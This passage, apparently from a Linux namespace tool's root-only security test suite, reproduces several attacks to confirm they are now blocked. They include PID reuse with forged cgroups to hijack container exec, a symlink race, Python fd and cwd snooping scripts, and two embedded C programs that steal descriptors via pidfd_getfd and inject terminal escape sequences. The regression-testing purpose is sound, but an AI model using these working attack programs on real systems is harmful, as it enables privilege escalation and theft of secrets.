      const expected = pidfs ? Number(stat.stdout.trim()) : undefined;
      const resolved = resolveTarget(child.pid);
      assertEquals(resolved.kind === "process" ? resolved.inode : "file", expected);
      const pinned = resolveTarget(pin);
      assertEquals(pinned.kind === "process" ? pinned.inode : "file", expected);
      const off = await runPiped(Deno.execPath(), {
        args: [
          "eval",
          `import { resolveTarget } from "${ROOT}mod.ts";
console.log(JSON.stringify(resolveTarget(${child.pid})));`,
        ],
        env: { NSJOIN_NO_PIDFS: "1" },
      });
      assertEquals(off.code, 0, off.stderr);
      assertEquals(JSON.parse(off.stdout).inode, undefined);
      assertEquals(
        JSON.parse(off.stdout).startTime,
        resolved.kind === "process" && resolved.startTime,
      );
    } finally {
      child.kill("SIGKILL");
      await child.status;
    }
  },
});

// ---- stop 20c: a rootful container's root names a cgroup for another container

/**
 * A process in the namespaces of the container whose process is `host` (nsenter -a from the
 * host, as the container's own `exec` would make one) that gets PID `pid` (ns_last_pid,
 * retried while other processes take it first) and runs `script`; undefined when that did
 * not happen.
 */
async function containerProcessAt(
  host: number,
  pid: number,
  script: string,
): Promise<Deno.ChildProcess | undefined> {
  for (let i = 0; i < 300; i++) {
    // nsenter takes the PID before and forks the one joining the container's pid namespace.
    await Deno.writeTextFile("/proc/sys/kernel/ns_last_pid", String(pid - 2));
    const child = new Deno.Command("nsenter", {
      args: ["-t", String(host), "-a", "sh", "-c", script],
      stdin: "null",
      stdout: "null",
      stderr: "null",
    }).spawn();
    let forked = "";
    for (let k = 0; k < 50 && !forked; k++) {
      forked = await Deno.readTextFile(`/proc/${child.pid}/task/${child.pid}/children`)
        .catch(() => "");
      if (!forked) await new Promise((r) => setTimeout(r, 10));
    }
    if (forked.trim() === String(pid)) return child;
    for (const p of [child.pid, ...forked.trim().split(" ").filter(Boolean).map(Number)]) {
      try {
        Deno.kill(p, "SIGKILL");
      } catch { /* gone */ }
    }
    await child.status;
  }
  return undefined;
}

Deno.test({
  name:
    "stop 20c: a stopped podman container whose PID a rootful container's process took is not running, not joined",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // A rootful container's root is uid 0 on the host: a cgroup it makes is root's. It names
    // one for another container, libpod-ID, and moves there a process of its own that took
    // the PID a stopped container's pidfile still names: that container was listed as running,
    // and root's exec ran in the attacker's namespaces with the stopped container's
    // configured environment (its secrets).
    const tag = crypto.randomUUID().slice(0, 8);
    const victim = await startContainer("podman", `nsjoin-sec20c-v-${tag}`, [
      "-e",
      "SECRET=s3cr3t",
    ]);
    const attacker = await startContainer("podman", `nsjoin-sec20c-a-${tag}`, [
      "--systemd=always",
    ]);
    const made: string[] = [];
    // The process that takes the PID runs `script`; it moves into the cgroup `dir` (host
    // path), or is moved there when `script` does not.
    const attack = async (script: string, dir: string) => {
      const taker = await containerProcessAt(attacker.pid, victim.pid, script);
      if (!taker) throw new Error(`PID ${victim.pid} was not taken; the scenario did not happen`);
      try {
        if (!script.includes("cgroup.procs")) {
          await Deno.writeTextFile(`${dir}/cgroup.procs`, String(victim.pid));
        }
        await waitFor("the attacker's cgroup", () => {
          try {
            return Deno.readTextFileSync(`${dir}/cgroup.procs`).split("\n")
              .includes(String(victim.pid));
          } catch {
            return false;
          }
        });
        const out = await runPiped(Deno.execPath(), {
          args: [
            ...["run", "-A", "--quiet", CLI, "exec", `podman:${victim.name}`],
            ...["sh", "-c", "echo ran $SECRET in $(hostname)"],
          ],
        });
        assert(!out.stdout.includes("ran"), `ran in the attacker's namespaces: ${out.stdout}`);
        assertEquals(out.code, 125, out.stderr);
        assertMatch(out.stderr, /Cannot find podman container/);
        assert(!(await psJson()).some((r) => r.id === victim.id), "listed as running");
      } finally {
        try {
          Deno.kill(victim.pid, "SIGKILL");
        } catch { /* gone */ }
        await taker.status;
      }
    };
    try {
      await must("podman", ["stop", "-t", "0", victim.name]);
      await t.step("on a named hierarchy (podman's systemd mode mounts its root)", async () => {
        // Inside the attacker's container, as its root: its name=systemd mount is read-write
        // (on a cgroup v1 or hybrid host; on cgroup v2, its own cgroup2 subtree).
        const hierarchy = (await must("podman", [
          "exec",
          attacker.name,
          "sh",
          "-c",
          "test -d /sys/fs/cgroup/systemd && echo /sys/fs/cgroup/systemd || echo /sys/fs/cgroup",
        ])).trim();
        const dir = `${hierarchy}/libpod-${victim.id}`;
        await must("podman", ["exec", attacker.name, "mkdir", dir]);
        made.push(`/proc/${attacker.pid}/root${dir}`);
        await attack(`echo $$ > ${dir}/cgroup.procs && exec sleep 1000`, made[0]);
      });
      await t.step("below the container's own cgroup v2 (systemd mode on cgroup v2)", async () => {
        // Podman's systemd mode on a cgroup v2 host gives the container's root its cgroup's
        // subtree: what that root makes there (here made for it, on a hybrid host whose
        // containers get no cgroup2 mount) is root's, below libpod-ATTACKER.
        const mount = (await Deno.readTextFile("/proc/self/mountinfo")).split("\n")
          .map((l) => l.split(" ")).find((f) => f[3] === "/" && f.includes("cgroup2"))?.[4];
        assert(mount, "no cgroup2 mount");
        const own = (await Deno.readTextFile(`/proc/${attacker.pid}/cgroup`)).split("\n")
          .find((l) => l.startsWith("0::"))!.slice(3);
        assertMatch(own, new RegExp(`libpod-${attacker.id}`));
        const dir = `${mount}${own}/libpod-${victim.id}`;
        await Deno.mkdir(dir);
        made.push(dir);
        await attack("exec sleep 1000", dir);
      });
    } finally {
      // The cgroups made stay on the host's hierarchies: removed once empty.
      for (const dir of made) {
        for (let i = 0; i < 50 && existsNow(dir); i++) {
          await Deno.remove(dir).catch(() => new Promise((r) => setTimeout(r, 20)));
        }
      }
      await removeContainers([attacker, victim]);
    }
  },
});

// ---- stop 20c: a cgroup of the target outside our mounts (a cgroup namespace of ours)

Deno.test({
  name:
    "stop 20c: root's exec from a cgroup namespace never runs the program outside the target's cgroup",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // In a cgroup namespace of ours (nsjoin in a container with a private one, or under
    // `unshare -C`) the kernel writes cgroup paths, the target's and our mounts' roots alike,
    // relative to its root: a target in a sibling cgroup is `/../t`, outside the `/../..` our
    // mount of the hierarchy starts at. That cgroup was skipped with nothing said, and root's
    // program ran in our own cgroup, outside the target's limits and device rules.
    const mounts = (await Deno.readTextFile("/proc/self/mountinfo")).split("\n")
      .map((l) => l.split(" ")).filter((f) => f[3] === "/");
    const point = mounts.find((f) => f.at(-1)?.split(",").includes("pids"))?.[4] ??
      mounts.find((f) => f.includes("cgroup2"))?.[4];
    assert(point, "no pids or cgroup2 hierarchy mounted");
    const base = `${point}/nsjoin-sec20c-${crypto.randomUUID().slice(0, 8)}`;
    for (const d of [base, `${base}/ns`, `${base}/t`]) await Deno.mkdir(d);
    const target = new Deno.Command("unshare", {
      args: ["-m", "--propagation", "private", "sleep", "1000"],
      stdin: "null",
    }).spawn();
    try {
      await Deno.writeTextFile(`${base}/t/cgroup.procs`, String(target.pid));
      await waitFor("the target's namespace", () => {
        try {
          return Deno.readLinkSync(`/proc/${target.pid}/ns/mnt`) !==
            Deno.readLinkSync("/proc/self/ns/mnt");
        } catch {
          return false;
        }
      });
      const out = await runPiped("sh", {
        args: [
          "-c",
          `echo $$ > ${base}/ns/cgroup.procs && exec unshare -C "$@"`,
          "sh",
          ...[Deno.execPath(), "run", "-A", "--quiet", CLI, "exec", String(target.pid)],
          ...["sh", "-c", `echo ran in $(grep -c . ${base}/t/cgroup.procs)`],
        ],
      });
      assert(!out.stdout.includes("ran in 1"), `ran outside the target's cgroup: ${out.stdout}`);
      assertEquals(out.code, 125, out.stderr);
      assertMatch(out.stderr, /Cannot join the \S+ cgroup of pid \d+ - it is outside our mounts/);
    } finally {
      target.kill("SIGKILL");
      await target.status;
      for (const dir of [`${base}/t`, `${base}/ns`, base]) {
        for (let i = 0; i < 50 && existsNow(dir); i++) {
          await Deno.remove(dir).catch(() => new Promise((r) => setTimeout(r, 20)));
        }
      }
    }
  },
});

// ---- stop 20c: the session keyring under a seccomp filter of ours

Deno.test({
  name:
    "stop 20c: exec from a container whose filter refuses keyctl runs the program under that filter",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // nsjoin run in a docker container with CAP_SYS_ADMIN and docker's default filter (which
    // refuses keyctl and add_key with EPERM): the helper's new session keyring failed, and
    // every exec with it (125), though the program inherits that filter (Seccomp: 2) and
    // reaches no key of ours. The host's files, read-only, are the container's root (chroot),
    // with a proc of its own pid namespace.
    const name = `nsjoin-sec20c-k-${crypto.randomUUID().slice(0, 8)}`;
    // A writable scratch directory for Deno, on a tmpfs that hides neither this checkout nor
    // the deno binary (CI may clone under /tmp).
    const inside = (dir: string, path: string) => path === dir || path.startsWith(`${dir}/`);
    const scratch = ["/tmp", "/var/tmp", "/mnt", "/srv", "/opt"].find((dir) => {
      try {
        if (!Deno.statSync(dir).isDirectory) return false;
      } catch {
        return false;
      }
      return ![CLI, Deno.execPath()].some((path) => inside(dir, path));
    });
    assert(scratch, "no scratch directory outside the checkout and the deno binary");
    const script = [
      "mount -t proc proc /proc || exit 9",
      `export DENO_DIR=${scratch}/deno HOME=${scratch} NO_COLOR=1`,
      "unshare -m sleep 1000 & s=$!",
      'while [ "$(readlink /proc/$s/ns/mnt)" = "$(readlink /proc/self/ns/mnt)" ]; do :; done',
      '"$0" run -A --quiet "$1" exec --security-opt seccomp=unconfined $s sh -c "$2"',
      "echo code=$?",
      "kill -9 $s",
    ].join("\n");
    try {
      const out = await runPiped("docker", {
        args: [
          ...["run", "--rm", "--name", name, "--cap-add", "SYS_ADMIN", "--cap-add", "SYS_PTRACE"],
          ...["-v", "/:/host:ro", "--tmpfs", `/host${scratch}:exec`, IMAGE, "chroot", "/host"],
          ...[
            "sh",
            "-c",
            script,
            Deno.execPath(),
            CLI,
            "echo ran; grep ^Seccomp: /proc/self/status",
          ],
        ],
      });
      assertMatch(out.stdout, /^ran\nSeccomp:\s+2\ncode=0\n/, out.stderr);
    } finally {
      await runPiped("docker", { args: ["rm", "-f", name] });
    }
  },
});

// ---- stop 20d: exec of a namespace FILE whose path changes after it was checked

Deno.test({
  name:
    "stop 20d: exec of a namespace file checks the fd it joins — a symlink swapped after the check never runs a user's mount namespace's programs as root",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    const user = await testUser();
    const mark = `sec20d-planted-${crypto.randomUUID()}`;
    await using target = await makeTarget({
      flags: ["-U", "--map-root-user", "-m"],
      user: { uid: user.uid, gid: user.gid },
      setup: `mount -t tmpfs t /mnt && printf '#!/bin/sh\\necho ${mark}\\n' > ` +
        "/mnt/ls && chmod 755 /mnt/ls && mount --bind /mnt/ls /bin/ls",
    });
    // The user's link flips between a mount namespace root may join (ours) and theirs:
    // exec looked at the path, and the helper opened it again a few ms later.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec20d-" });
    const link = `${dir}/ns`;
    Deno.symlinkSync(`/proc/${Deno.pid}/ns/mnt`, link);
    const flipper = new Deno.Command("perl", {
      args: [
        "-e",
        'my ($a, $b, $l) = @ARGV; while (1) { symlink $a, "$l.t"; rename "$l.t", $l; ' +
        'symlink $b, "$l.t"; rename "$l.t", $l }',
        `/proc/${Deno.pid}/ns/mnt`,
        `/proc/${target.pid}/ns/mnt`,
        link,
      ],
      stdout: "null",
      stderr: "null",
    }).spawn();
    try {
      const codes: number[] = [];
      for (let i = 0; i < 80; i++) {
        const out = await runPiped(Deno.execPath(), {
          args: ["run", "-A", "--quiet", "--no-lock", CLI, "exec", link, "/bin/ls", "/"],
        });
        assert(!out.stdout.includes(mark), `root ran the user's program (run ${i})`);
        codes.push(out.code);
        // The race met: checked as ours, opened as theirs, and refused by the helper.
        if (out.code === 125) {
          assertMatch(
            out.stderr,
            /^nsjoin exec: Cannot join namespace file \S+: its user namespace is not ours/,
          );
          break;
        }
        if (out.code !== 0) assertEquals(out.code, 2, out.stderr);
      }
      assert(codes.includes(125), `the swap never came between check and open: ${codes}`);
      // The same check for a user namespace (whose program would read the caller's environment).
      const lib = await new NsCommand("/bin/echo", {
        target: `/proc/${target.pid}/ns/user`,
        args: ["ran"],
        ownNamespaceFile: true,
      }).output();
      assertEquals(lib.code, 125, new TextDecoder().decode(lib.stderr));
      assert(!new TextDecoder().decode(lib.stdout).includes("ran"));
      assertEquals(lib.setupError?.namespace, "user");
    } finally {
      flipper.kill("SIGKILL");
      await flipper.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 20d: exec -n user,… never hands a file on its stdio to the namespace's owner

Deno.test({
  name:
    "stop 20d: exec -n user,… with a file of root's on its stdio never hands the file to the user namespace's owner",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    const user = await testUser();
    await using target = await makeTarget({
      flags: ["-U", "--map-root-user", "-n"],
      user: { uid: user.uid, gid: user.gid },
    });
    // Root's log in a directory the user may not search; the user prints what fd 1 of the
    // program is and, if it is that file, reads its earlier lines through /proc/self/fd.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-filestdio-" });
    const tools = await Deno.makeTempDir({ prefix: "nsjoin-filestdio-tools-" });
    await Deno.chmod(tools, 0o755);
    const log = `${dir}/job.log`;
    const secret = `sec20d-log-${crypto.randomUUID()}`;
    try {
      await Deno.writeTextFile(log, `${secret}\n`, { mode: 0o644 });
      await Deno.writeTextFile(
        `${tools}/take.py`,
        `
import ctypes, os, stat, sys, time
want = ("\\0".join(sys.argv[1:]) + "\\0").encode()
libc = ctypes.CDLL(None, use_errno=True)
for _ in range(2000):
    for name in os.listdir("/proc"):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                if f.read() != want:
                    continue
            pidfd = os.pidfd_open(int(name))
        except (OSError, ValueError):
            continue
        fd = libc.syscall(438, pidfd, 1, 0)
        if fd < 0:
            print(f"getfd errno {ctypes.get_errno()}")
        elif stat.S_ISREG(os.fstat(fd).st_mode):
            with open(f"/proc/self/fd/{fd}") as f:
                print("file " + f.read().strip())
        else:
            print("other")
        sys.exit(0)
    time.sleep(0.005)
print("none")
`,
      );
      const nap = `1.${Math.floor(Math.random() * 900000) + 100000}`;
      const taker = new Deno.Command("setpriv", {
        args: [
          ...[`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups"],
          ...["/usr/bin/python3", `${tools}/take.py`, "/bin/sleep", nap],
        ],
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      // Root's stdout appends to its log (a cron job's `>> job.log`).
      const run = await runPiped("sh", {
        args: [
          "-c",
          'exec "$0" run -A --quiet "$1" exec -n user,net "$2" /bin/sleep "$3" >>"$4" </dev/null',
          ...[Deno.execPath(), CLI, String(target.pid), nap, log],
        ],
      });
      assertEquals(run.code, 0, run.stderr);
      const took = await taker.output();
      const seen = text(took.stdout).trim();
      assert(!seen.includes(secret), `the user read root's log: ${seen}`);
      assertEquals(seen, "other", `the user took: ${seen} ${text(took.stderr)}`);
    } finally {
      await Deno.remove(dir, { recursive: true });
      await Deno.remove(tools, { recursive: true });
    }
  },
});

// ---- stop 20d: exec -n user,… never lends the caller's working directory to the owner

Deno.test({
  name:
    "stop 20d: exec -n user,… runs a host program in / (unless -w), so the user namespace's owner cannot follow its cwd below root's 0700 directory",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    const user = await testUser();
    await using target = await makeTarget({
      flags: ["-U", "--map-root-user", "-n"],
      user: { uid: user.uid, gid: user.gid },
    });
    // Root works in a world-searchable directory below its 0700 one; the user looks for the
    // program and reads a file there through /proc/PID/cwd, which skips the 0700 directory.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-cwd-" });
    const tools = await Deno.makeTempDir({ prefix: "nsjoin-cwd-tools-" });
    await Deno.chmod(tools, 0o755);
    const secret = `sec20d-cwd-${crypto.randomUUID()}`;
    try {
      await Deno.mkdir(`${dir}/pub`, { mode: 0o755 });
      await Deno.chmod(`${dir}/pub`, 0o755);
      await Deno.writeTextFile(`${dir}/pub/s`, `${secret}\n`, { mode: 0o644 });
      await Deno.writeTextFile(
        `${tools}/look.py`,
        `
import os, sys, time
want = ("\\0".join(sys.argv[1:]) + "\\0").encode()
for _ in range(2000):
    for name in os.listdir("/proc"):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                if f.read() != want:
                    continue
            with open(f"/proc/{name}/cwd/s") as f:
                print("read " + f.read().strip())
        except (OSError, ValueError) as e:
            if isinstance(e, OSError) and e.filename and "/cwd/" in str(e.filename):
                print("unread")
            else:
                continue
        sys.exit(0)
    time.sleep(0.005)
print("none")
`,
      );
      const nap = `1.${Math.floor(Math.random() * 900000) + 100000}`;
      const looker = new Deno.Command("setpriv", {
        args: [
          ...[`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups"],
          ...["/usr/bin/python3", `${tools}/look.py`, "/bin/sleep", nap],
        ],
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      const run = await runPiped(Deno.execPath(), {
        args: ["run", "-A", "--quiet", CLI, "exec", "-n", "user,net", String(target.pid)]
          .concat(["/bin/sleep", nap]),
        cwd: `${dir}/pub`,
      });
      assertEquals(run.code, 0, run.stderr);
      const looked = await looker.output();
      const seen = text(looked.stdout).trim();
      assert(!seen.includes(secret), `the user read root's file: ${seen}`);
      assertEquals(seen, "unread", `the user saw: ${seen} ${text(looked.stderr)}`);
      // The program is in /, and -w still chooses: a host program's paths are the caller's.
      const pwd = (w: string[]) =>
        runPiped(Deno.execPath(), {
          args: ["run", "-A", "--quiet", CLI, "exec", "-n", "user,net", ...w]
            .concat([String(target.pid), "pwd"]),
          cwd: `${dir}/pub`,
        });
      assertEquals((await pwd([])).stdout, "/\n");
      assertEquals((await pwd(["-w", "/tmp"])).stdout, "/tmp\n");
      // Stop 24: -w is looked up as the user namespace's root (runc's rule), who cannot enter
      // root's 0700 directory: refused, where the program lent the user a way in.
      const below = await pwd(["-w", `${dir}/pub`]);
      assertEquals([below.code, below.stdout], [125, ""], below.stderr);
      assertMatch(below.stderr, /Cannot change directory to .*\/pub in the target: EACCES/);
      // Only the net namespace: nothing of the target reads the program; nsenter -n's cwd.
      const net = await runPiped(Deno.execPath(), {
        args: ["run", "-A", "--quiet", CLI, "exec", "-n", "net", String(target.pid), "pwd"],
        cwd: `${dir}/pub`,
      });
      assertEquals(net.stdout, `${dir}/pub\n`);
    } finally {
      await Deno.remove(dir, { recursive: true });
      await Deno.remove(tools, { recursive: true });
    }
  },
});

// ---- stop 20d: a namespace bound under a FUSE mount in another mount namespace

Deno.test({
  name:
    "stop 20d: ls never waits for a FUSE daemon that does not answer (a namespace bound under its mount in another mount namespace)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // As stop 20's FUSE test: fuse-overlayfs stands in for any daemon root may enter (a
    // user's with allow_other), with no attribute cache (timeout=0) so that every lookup
    // asks it. A mount namespace of its own binds a net namespace nobody else holds at a
    // file in that mount: ls opened it through /proc/PID/root to read its owner, and the
    // lookup in the stopped daemon's directory never returned.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec20d-fuse-" });
    for (const d of ["lower", "upper", "work", "mnt"]) await Deno.mkdir(`${dir}/${d}`);
    await Deno.writeTextFile(`${dir}/lower/file`, "x");
    const daemon = new Deno.Command("fuse-overlayfs", {
      args: [
        ...[
          "-f",
          "-o",
          `timeout=0,lowerdir=${dir}/lower,upperdir=${dir}/upper,workdir=${dir}/work`,
        ],
        `${dir}/mnt`,
      ],
      stdin: "null",
      stdout: "null",
      stderr: "null",
    }).spawn();
    let holder: Deno.ChildProcess | undefined;
    try {
      await waitFor("the FUSE mount", () => {
        try {
          return Deno.readTextFileSync(`${dir}/mnt/file`) === "x";
        } catch {
          return false;
        }
      }, 10_000);
      holder = new Deno.Command("unshare", {
        args: [
          ...["-m", "--propagation", "private", "sh", "-c"],
          `touch ${dir}/mnt/ns && unshare --net=${dir}/mnt/ns true && exec sleep 100024`,
        ],
        stdin: "null",
      }).spawn();
      const pid = holder.pid;
      await waitFor("the bound namespace", () => {
        try {
          return Deno.readTextFileSync(`/proc/${pid}/mountinfo`).includes(`${dir}/mnt/ns rw`) &&
            Deno.readTextFileSync(`/proc/${pid}/cmdline`).startsWith("sleep");
        } catch {
          return false;
        }
      }, 10_000);
      daemon.kill("SIGSTOP");
      const out = await runPiped(Deno.execPath(), {
        args: ["run", "-A", "--quiet", "--no-lock", CLI, "ls", "-t", "net"],
        signal: AbortSignal.timeout(20_000),
      });
      daemon.kill("SIGCONT");
      assertEquals(out.code, 0, `ls did not finish: ${out.code} ${out.stderr}`);
      assertMatch(out.stdout, /^\s+NS TYPE/);
    } finally {
      daemon.kill("SIGCONT");
      holder?.kill("SIGKILL");
      await holder?.status;
      await runPiped("umount", { args: [`${dir}/mnt`] });
      await daemon.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 20d: a cgroup named for a container below another container's bare-ID cgroup

Deno.test({
  name:
    "stop 20d: a stopped podman container whose PID a docker container's process took, in a cgroup below that container's /docker/ID, is not running, not joined",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // Stop 20c's attack from a container of docker's cgroupfs driver, whose cgroups are
    // /docker/ID (a bare ID, as containerd's /NAMESPACE/ID and podman's pods): the cgroup its
    // root makes in the subtree it may write (here made for it, as root) is root's, and was
    // not counted as below another container's.
    const tag = crypto.randomUUID().slice(0, 8);
    const victim = await startContainer("podman", `nsjoin-sec20d-v-${tag}`, [
      "-e",
      "SECRET=s3cr3t",
    ]);
    const attacker = await startContainer("docker", `nsjoin-sec20d-a-${tag}`);
    let dir: string | undefined;
    try {
      await must("podman", ["stop", "-t", "0", victim.name]);
      const line = (await Deno.readTextFile(`/proc/${attacker.pid}/cgroup`)).split("\n")
        .find((l) => /^\d+:(memory|pids):/.test(l) && l.endsWith(`/${attacker.id}`));
      if (!line) {
        throw new Error("no /docker/ID cgroup of a controller: not docker's cgroupfs driver");
      }
      const controller = line.split(":")[1];
      const mount = (await Deno.readTextFile("/proc/self/mountinfo")).split("\n")
        .map((l) => l.split(" ")).find((f) =>
          f[3] === "/" && f.includes("cgroup") && f.at(-1)!.split(",").includes(controller)
        )?.[4];
      assert(mount, `no ${controller} hierarchy`);
      dir = `${mount}${line.split(":")[2]}/libpod-${victim.id}`;
      await Deno.mkdir(dir);
      const taker = await containerProcessAt(attacker.pid, victim.pid, "exec sleep 1000");
      if (!taker) throw new Error(`PID ${victim.pid} was not taken; the scenario did not happen`);
      try {
        await Deno.writeTextFile(`${dir}/cgroup.procs`, String(victim.pid));
        const out = await runPiped(Deno.execPath(), {
          args: [
            ...["run", "-A", "--quiet", CLI, "exec", `podman:${victim.name}`],
            ...["sh", "-c", "echo ran $SECRET in $(hostname)"],
          ],
        });
        assert(!out.stdout.includes("ran"), `ran in the attacker's namespaces: ${out.stdout}`);
        assertEquals(out.code, 125, out.stderr);
        assertMatch(out.stderr, /Cannot find podman container/);
        assert(!(await psJson()).some((r) => r.id === victim.id), "listed as running");
      } finally {
        try {
          Deno.kill(victim.pid, "SIGKILL");
        } catch { /* gone */ }
        await taker.status;
      }
    } finally {
      for (let i = 0; dir && i < 50 && existsNow(dir); i++) {
        await Deno.remove(dir).catch(() => new Promise((r) => setTimeout(r, 20)));
      }
      await removeContainers([attacker, victim]);
    }
  },
});

// ---- stop 20e: the failure line of exec -t never leads the target to the relay
// The joining process hands the relay a channel for a failure line once the pty is its
// stderr; the program's process holds it (close-on-exec) until execve, so a task there with
// CAP_SYS_PTRACE takes it. It was the relay's own socketpair: SO_PEERPIDFD on it named the
// relay, and pidfd_getfd (no pid-namespace check) took the caller's stdin, stdout and stderr
// from it (root's terminal, for the CLI). Now the channel is a pipe made after every join,
// which names no process.

/**
 * In a pid namespace whose init holds CAP_SYS_PTRACE alone: for every new process (from
 * ns_last_pid) it takes fds 3-63 with pidfd_getfd; for each socket among them it gets a
 * pidfd of the process that made it (SO_PEERPIDFD) and counts the fds 0-2 of that process it
 * takes. SIGTERM ends it; it prints counts.
 */
const RELAY_PEER_THIEF_C = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif
static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }
int main(void) {
  struct sigaction sa = {0};
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, 0);
  int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  long last = -1, reached = 0, taken = 0, sockets = 0, peerfds = 0;
  printf("ready\n");
  fflush(stdout);
  while (!stop) {
    char b[32];
    ssize_t n = pread(lp, b, sizeof b - 1, 0);
    long now = n > 0 ? (b[n] = 0, atol(b)) : last;
    if (last < 0) last = now;
    for (long pid = last + 1; pid <= now; pid++) {
      int pfd = -1;
      for (int i = 0; i < 200 && pfd < 0; i++) pfd = (int)syscall(SYS_pidfd_open, pid, 0);
      if (pfd < 0) continue;
      int g0 = (int)syscall(SYS_pidfd_getfd, pfd, 0, 0);
      if (g0 >= 0) reached++, close(g0);
      for (int fd = 3; fd < 64; fd++) {
        int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
        if (g < 0) continue;
        taken++;
        int p = -1;
        socklen_t l = sizeof p;
        if (getsockopt(g, SOL_SOCKET, SO_PEERPIDFD, &p, &l) == 0 && p >= 0) {
          sockets++;
          for (int hf = 0; hf < 3; hf++) {
            int h = (int)syscall(SYS_pidfd_getfd, p, hf, 0);
            if (h >= 0) peerfds++, close(h);
          }
          close(p);
        }
        close(g);
      }
      close(pfd);
    }
    last = now;
    while (waitpid(-1, 0, WNOHANG) > 0) {}
  }
  printf("{\"reached\":%ld,\"taken\":%ld,\"sockets\":%ld,\"peerfds\":%ld}\n", reached, taken,
         sockets, peerfds);
  fflush(stdout);
  return 0;
}
`;

Deno.test({
  name:
    "stop 20e: with a pty, the channel for a failure line gives a CAP_SYS_PTRACE target no fd of the relay",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    const counts = await ptyAttack(RELAY_PEER_THIEF_C, 60, (run) => {
      assertEquals(run.code, 0, text(run.stderr));
    });
    console.log(JSON.stringify(counts));
    // The attack was live: it reached the children before execve and took the channel.
    assert(counts.taken > 0, JSON.stringify(counts));
    assertEquals(counts.peerfds, 0, JSON.stringify(counts));
  },
});

/**
 * In a pid namespace whose init holds CAP_SYS_PTRACE alone: for every new process (from
 * ns_last_pid) it takes fds 3-63 with pidfd_getfd and writes to each writable FIFO among
 * them (the failure line's pipe, before execve) a line holding C1 controls as UTF-8 (CSI,
 * OSC: xterm acts on them) and a second line. SIGTERM ends it; it prints counts.
 */
const RELAY_NOTE_WRITER_C = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }
int main(void) {
  struct sigaction sa = {0};
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, 0);
  signal(SIGPIPE, SIG_IGN);
  static const char line[] = "forged \xc2\x9b" "2J \xc2\x9d" "52;c;Zm9v\xc2\x9c \x1b[2J\nsecond\n";
  int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  long last = -1, writes = 0;
  printf("ready\n");
  fflush(stdout);
  while (!stop) {
    char b[32];
    ssize_t n = pread(lp, b, sizeof b - 1, 0);
    long now = n > 0 ? (b[n] = 0, atol(b)) : last;
    if (last < 0) last = now;
    for (long pid = last + 1; pid <= now; pid++) {
      int pfd = -1;
      for (int i = 0; i < 200 && pfd < 0; i++) pfd = (int)syscall(SYS_pidfd_open, pid, 0);
      if (pfd < 0) continue;
      for (int fd = 3; fd < 64; fd++) {
        int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
        if (g < 0) continue;
        struct stat st;
        if (fstat(g, &st) == 0 && S_ISFIFO(st.st_mode) && (fcntl(g, F_GETFL) & O_ACCMODE) == O_WRONLY &&
            write(g, line, sizeof line - 1) > 0)
          writes++;
        close(g);
      }
      close(pfd);
    }
    last = now;
    while (waitpid(-1, 0, WNOHANG) > 0) {}
  }
  printf("{\"writes\":%ld}\n", writes);
  fflush(stdout);
  return 0;
}
`;

Deno.test({
  name:
    "stop 20e: with a pty, what a target writes into the failure line's pipe is one line with no control byte",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    let forged = 0;
    const counts = await ptyAttack(RELAY_NOTE_WRITER_C, 40, (run) => {
      // The exit code stays the program's.
      assertEquals(run.code, 0, text(run.stderr));
      const err = text(run.stderr);
      if (err.includes("forged")) forged++;
      // deno-lint-ignore no-control-regex -- a control byte reaching the terminal is the attack
      assert(!/[\x00-\x09\x0b-\x1f\x7f-\x9f]/u.test(err), JSON.stringify(err));
      assert(!err.includes("second"), JSON.stringify(err));
    });
    console.log(JSON.stringify({ ...counts, forged }));
    // The attack was live: the relay printed the line it was sent.
    assert(forged > 0, JSON.stringify({ ...counts, forged }));
  },
});

// ---- stop 21: a CRI-O pod's annotations over its sandbox's own keys
// CRI-O writes a sandbox's io.kubernetes.cri-o.* annotations, then the pod's own annotations
// over them, then the pod's labels (server/sandbox_run_linux.go: `for k, v := range
// kubeAnnotations { g.AddAnnotation(k, v) }` after `g.AddAnnotation(annotations.SandboxID,
// …)`). The labels name the pod truly (the kubelet sets io.kubernetes.pod.*, CRI-O
// io.kubernetes.container.name "POD" for a sandbox); its ContainerType and SandboxID are the
